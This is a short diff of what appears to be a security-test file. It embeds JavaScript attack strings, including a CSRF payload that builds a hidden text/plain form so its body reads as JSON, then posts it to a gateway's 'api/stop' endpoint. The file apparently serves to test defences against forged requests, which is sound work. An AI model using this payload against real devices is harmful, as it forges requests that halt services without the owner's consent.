@@ -46,14 +46,15 @@ ATTACK = """async gateway => {
   note('image', await loads('img', 'page/icon.svg'));
   return found;
 }"""
-# A form that sends JSON as text, as no form of ours does.
+# A form that sends JSON as text, as no form of ours does. Sent by a timer: the script itself has returned
+# before the browser leaves the page, else its result is lost.
 FORM = """gateway => {
   const form = document.createElement('form'), field = document.createElement('input');
   Object.assign(form, { method: 'POST', action: gateway + 'api/stop', enctype: 'text/plain' });
   Object.assign(field, { name: '{"drives": null, "x": "', value: '"}' });
   form.append(field);
   document.body.append(form);
-  form.submit();
+  setTimeout(() => form.submit());
 }"""
 
 
